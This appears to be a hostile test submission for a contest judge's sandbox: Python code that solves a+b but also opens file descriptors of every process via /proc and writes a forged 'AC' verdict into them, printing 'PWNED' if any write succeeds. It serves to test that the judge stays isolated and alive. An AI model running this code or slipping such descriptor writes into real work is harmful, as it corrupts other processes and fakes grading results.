# id=S05 | tries=opens the parent's descriptors through /proc/<ppid>/fd and writes to them | verdicts=AC,RE,WA | invariants=no_pwn,judge_alive | dangerous=writes to descriptors of every process
import os, glob
a, b = map(int, input().split())
me, bad = {str(os.getpid()), os.path.basename(os.path.realpath('/proc/self'))}, False
for d in glob.glob('/proc/[0-9]*'):
    if d.split('/')[2] in me:
        continue
    for f in range(64):
        try:
            fd = os.open(f'{d}/fd/{f}', os.O_WRONLY)
            os.write(fd, b'{"verdict":"AC"}\n')
            bad = True
        except OSError:
            pass
print('PWNED' if bad else a + b)
